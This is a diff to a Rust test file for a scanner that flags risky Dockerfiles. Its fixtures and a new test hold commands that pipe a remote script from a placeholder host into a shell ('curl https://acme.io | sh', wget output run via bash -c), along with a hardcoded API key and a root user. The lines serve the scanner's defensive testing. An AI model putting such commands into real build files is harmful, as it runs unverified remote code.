@@ -1,4 +1,6 @@
-use crate::review::scan::testing::{shown_diff, shown_full};
+use crate::review::scan::scan;
+use crate::review::scan::testing::{shown, shown_diff, shown_full, snapshot};
+use crate::snapshot::Material;
 
 const BAD: &str = "# syntax=evil/frontend\nFROM node:22 AS build\nARG NPM_TOKEN\nENV API_KEY=a8f7b6c5d4e3\nADD http://acme.io/x.tar /x\nRUN apt-get update && \\\n    curl -fsSL https://acme.io/install.sh | bash -\nRUN --security=insecure bash -c \"$(wget -qO- http://acme.io/x)\"\nFROM build\nUSER root\nENTRYPOINT curl https://acme.io | sh\n";
 
@@ -62,7 +64,7 @@ fn it_is_read_as_the_builder_reads_it() {
     info a/Dockerfile:3: This code names hosts: acme.io
         | rl -s https://acme.io/i | s\\
     ");
-    let fine = "FROM a@sha256:a AS b\nRUN echo '<<EOF' && cat <<-X > f\n# curl https://acme.io | sh\n\tX\nCOPY --from=b /x /x\nCOPY --from=0 /x /x\nUSER 1\n";
+    let fine = "FROM a@sha256:a AS b\nRUN echo '<<EOF' && cat <<-X > f\n# curl acme.io | sh\n\tX\nCOPY --from=b /x /x\nCOPY --from=0 /x /x\nUSER 1\n";
     assert_eq!(shown_full(&[("a/Dockerfile", fine)]), "");
 }
 
@@ -125,4 +127,16 @@ fn packages_without_a_version_are_said_where_the_image_fetches_them() {
     info a/Dockerfile:3: This code names hosts: github.com
         | RUN pip install git+https://github.com/acme/x
     "#);
+}
+
+#[test]
+fn the_file_that_the_image_is_built_by_is_read_as_one_whatever_its_name() {
+    let text = "FROM a@sha256:a\nRUN curl https://acme.io | sh\nUSER 1\n";
+    for path in ["docker/build.txt", "build", "docs/image.md", "server.json"] {
+        let head = snapshot(&[(path, text.as_bytes())]);
+        let material = Material { head: &head, base: None, changes: &[], directory: "", dockerfile: Some(path) };
+        let found = shown(&scan(&material));
+        assert!(found.contains(&format!("medium {path}:2: Dockerfile: what an address answers is run")), "{found}");
+    }
+    assert!(!shown_full(&[("docker/build.txt", text)]).contains("Dockerfile"));
 }
